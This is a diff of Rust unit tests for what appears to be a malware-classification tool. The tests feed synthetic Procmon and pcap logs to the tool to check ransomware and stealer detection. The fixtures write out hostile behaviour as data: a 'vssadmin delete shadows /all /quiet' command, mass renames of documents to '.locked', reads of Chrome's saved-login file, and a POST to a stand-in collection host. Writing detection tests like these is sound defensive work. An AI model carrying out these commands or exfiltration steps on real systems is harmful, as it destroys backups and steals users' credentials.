@@ -363,3 +363,125 @@ fn cape_disk_writes_pools_and_shares() {
         );
     }
 }
+
+/// One Procmon row by the sample's process: PID, operation, path, detail.
+fn row(pid: &str, operation: &str, path: &str, detail: &str) -> [String; 4] {
+    [pid, operation, path, detail].map(str::to_string)
+}
+
+/// A Procmon CSV export with the columns Procmon writes by default (UTF-8 with a BOM, every
+/// cell quoted, CRLF), one line per row, the sample's own start first.
+fn procmon(rows: &[[String; 4]]) -> String {
+    let start = row(
+        "2940",
+        "Process Start",
+        "",
+        "Parent PID: 4012, Command line: \"C:\\Users\\alice\\Downloads\\backupd.exe\", Current directory: C:\\Users\\alice\\Downloads\\, Environment: ",
+    );
+    let mut out = String::from(
+        "\u{feff}\"Time of Day\",\"Process Name\",\"PID\",\"Operation\",\"Path\",\"Result\",\"Detail\"\r\n",
+    );
+    for (i, [pid, op, path, detail]) in std::iter::once(&start).chain(rows).enumerate() {
+        out.push_str(&format!(
+            "\"1:05:{:02}.{:07} PM\",\"backupd.exe\",\"{pid}\",\"{op}\",\"{path}\",\"SUCCESS\",\"{}\"\r\n",
+            i / 100,
+            (i % 100) * 1000,
+            detail.replace('"', "\"\"")
+        ));
+    }
+    out
+}
+
+/// `n` documents renamed, as Procmon writes a rename.
+fn renames(n: usize) -> Vec<[String; 4]> {
+    (0..n)
+        .map(|i| {
+            let path = format!("C:\\Users\\alice\\Documents\\report-{i}.docx");
+            let detail = format!("ReplaceIfExists: False, FileName: {path}.locked");
+            row("2940", "SetRenameInformationFile", &path, &detail)
+        })
+        .collect()
+}
+
+/// A Procmon capture of shadow copies deleted and 30 documents renamed: ransomware, with the
+/// Procmon file named in the evidence. 24 renames and no deletion: no class.
+#[test]
+fn procmon_shadow_copy_deletion_and_mass_renames_make_ransomware() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (exe, _) = sample(dir.path());
+    let mut rows = vec![row(
+        "2940",
+        "Process Create",
+        "C:\\Windows\\System32\\vssadmin.exe",
+        "PID: 3100, Command line: vssadmin.exe delete shadows /all /quiet",
+    )];
+    rows.extend(renames(30));
+    let log = dir.path().join("procmon.csv");
+    std::fs::write(&log, procmon(&rows)).expect("write log");
+    let hints = classes_of(&exe, std::slice::from_ref(&log));
+    let ransomware = hints
+        .iter()
+        .find(|h| h.class == "ransomware")
+        .unwrap_or_else(|| panic!("{hints:?}"));
+    assert_eq!(ransomware.confidence.to_string(), "high", "{ransomware:?}");
+    let evidence = ransomware.evidence.join("\n");
+    assert!(
+        evidence.contains("procmon.csv") && evidence.contains("delete shadows"),
+        "{evidence}"
+    );
+    assert!(evidence.contains("file_rename"), "{evidence}");
+    // 24 renames, no shadow copies deleted: below every `need` of the class.
+    std::fs::write(&log, procmon(&renames(24))).expect("write log");
+    let hints = classes_of(&exe, std::slice::from_ref(&log));
+    assert!(hints.is_empty(), "{hints:?}");
+}
+
+/// A Procmon capture that reads the browser's saved logins and a pcap of the same session
+/// with an HTTP POST: a stealer, with evidence from both logs. The Procmon capture alone
+/// (no traffic) gives no class.
+#[test]
+fn procmon_credential_reads_and_pcap_traffic_make_a_stealer() {
+    use super::logs::{ipv4, pcap, tcp, GUEST, SERVER};
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (exe, _) = sample(dir.path());
+    let logins = "C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
+    let rows = [
+        row(
+            "2940",
+            "CreateFile",
+            logins,
+            "Desired Access: Generic Read, Disposition: Open, Options: Synchronous IO Non-Alert, Non-Directory File, Attributes: n/a, ShareMode: Read, Write, AllocationSize: n/a, OpenResult: Opened",
+        ),
+        row(
+            "2940",
+            "ReadFile",
+            logins,
+            "Offset: 0, Length: 4,096, Priority: Normal",
+        ),
+    ];
+    let procmon_log = dir.path().join("procmon.csv");
+    std::fs::write(&procmon_log, procmon(&rows)).expect("write log");
+    let post = b"POST /gate.php HTTP/1.1\r\nHost: collect.example.net\r\nContent-Type: application/octet-stream\r\nContent-Length: 4\r\n\r\nAAAA";
+    let frames = vec![
+        ipv4(6, GUEST, SERVER, &tcp(50001, 80, 0x02, &[])),
+        ipv4(6, GUEST, SERVER, &tcp(50001, 80, 0x18, post)),
+    ];
+    let pcap_log = dir.path().join("session.pcap");
+    std::fs::write(&pcap_log, pcap(&frames)).expect("write pcap");
+    let hints = classes_of(&exe, &[procmon_log.clone(), pcap_log]);
+    let stealer = hints
+        .iter()
+        .find(|h| h.class == "stealer")
+        .unwrap_or_else(|| panic!("{hints:?}"));
+    let evidence = stealer.evidence.join("\n");
+    assert!(
+        evidence.contains("procmon.csv") && evidence.contains("Login Data"),
+        "{evidence}"
+    );
+    assert!(
+        evidence.contains("session.pcap") && evidence.contains("collect.example.net"),
+        "{evidence}"
+    );
+    let hints = classes_of(&exe, std::slice::from_ref(&procmon_log));
+    assert!(hints.is_empty(), "{hints:?}");
+}
